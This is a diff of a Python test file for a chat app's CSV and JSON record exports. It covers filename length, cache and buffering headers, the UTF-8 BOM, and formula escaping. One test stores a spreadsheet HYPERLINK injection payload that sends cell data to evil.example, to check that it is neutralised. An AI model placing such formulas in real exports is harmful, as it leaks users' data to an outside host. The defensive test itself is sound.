@@ -125,13 +125,26 @@ def test_the_records_download_is_named_after_its_chat(owner_client, small, exten
     Conversation.objects.filter(pk=small.conversation.pk).update(title="Trip: Lisbon / Porto")
     response = owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.{extension}")
     assert response["Content-Disposition"] == f'attachment; filename="Trip Lisbon Porto records.{extension}"'
+    # Past 100 characters of title " records" was cut off: the file bore the chat export's name.
+    Conversation.objects.filter(pk=small.conversation.pk).update(title="x" * 200)  # the longest a title is stored
+    response = owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.{extension}")
+    assert response["Content-Disposition"] == f'attachment; filename="{"x" * 100} records.{extension}"'
+
+
+@pytest.mark.parametrize("extension", ["csv", "json"])
+def test_the_records_download_is_not_cached_nor_buffered(owner_client, small, extension):
+    # The records are private (a shared or browser cache must not keep them) and streamed (nginx must
+    # pass each page on, not gather the file): they lacked both headers the chat's own export carries.
+    response = owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.{extension}")
+    assert response["Cache-Control"] == "no-store"
+    assert response["X-Accel-Buffering"] == "no"
 
 
 def test_csv_export(owner_client, small):
     response = owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.csv")
     assert response["Content-Type"].startswith("text/csv")
     assert "attachment" in response["Content-Disposition"]
-    text = streamed_body(response).decode()
+    text = streamed_body(response).decode("utf-8-sig")
     rows = list(csv.DictReader(io.StringIO(text)))
     assert [int(r["turn"]) for r in rows] == [1, 2, 3]
     assert [int(r["id"]) for r in rows] == [r.pk for r in small.records]
@@ -145,12 +158,23 @@ def test_csv_export(owner_client, small):
     assert rows[0]["provider_prompt_tokens"] == ""
 
 
+def test_the_csv_download_starts_with_a_bom_and_the_json_one_does_not(owner_client, small):
+    # Excel reads a CSV without a BOM in the local code page: a title or reason in Cyrillic or Chinese
+    # came out garbled. The BOM tells it UTF-8; JSON readers want none.
+    Conversation.objects.filter(pk=small.conversation.pk).update(title="Поездка 旅行")
+    csv_bytes = streamed_body(owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.csv"))
+    assert csv_bytes.startswith(b"\xef\xbb\xbf") and not csv_bytes.startswith(b"\xef\xbb\xbf" * 2)
+    assert next(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig"))))[0] == "turn"
+    json_bytes = streamed_body(owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.json"))
+    assert json_bytes.startswith(b"{")
+
+
 def test_csv_export_never_writes_a_formula(owner_client, small):
     """Issue 11, finding 9: a model name or reason that starts like a formula stays text."""
     small.records[0].__class__.objects.filter(pk=small.records[0].pk).update(
         model='=HYPERLINK("https://evil.example/?x="&A1,"click")', reason="+1 then -2 @here")
     response = owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.csv")
-    rows = list(csv.DictReader(io.StringIO(streamed_body(response).decode())))
+    rows = list(csv.DictReader(io.StringIO(streamed_body(response).decode("utf-8-sig"))))
     assert rows[0]["model"] == """'=HYPERLINK("https://evil.example/?x="&A1,"click")"""
     assert rows[0]["reason"] == "'+1 then -2 @here"
     assert int(rows[1]["tokens_saved"]) >= 0  # numbers stay numbers
@@ -286,7 +310,7 @@ def test_exports_mark_the_turns_of_another_branch_as_the_page_does(owner_client,
     make_record(conversation=c, tokens_full=120, tokens_sent=120)  # its reply not written yet
     page = [r["on_active_path"] for r in owner_client.get(api(c.pk, "records/")).json()["results"]]
     assert page == [False, True, True]
-    csv_text = streamed_body(owner_client.get(f"/c/{c.pk}/dashboard/export.csv")).decode()
+    csv_text = streamed_body(owner_client.get(f"/c/{c.pk}/dashboard/export.csv")).decode("utf-8-sig")
     rows = list(csv.DictReader(io.StringIO(csv_text)))
     assert [r["on_active_path"] for r in rows] == ["False", "True", "True"]
     data = json.loads(streamed_body(owner_client.get(f"/c/{c.pk}/dashboard/export.json")))
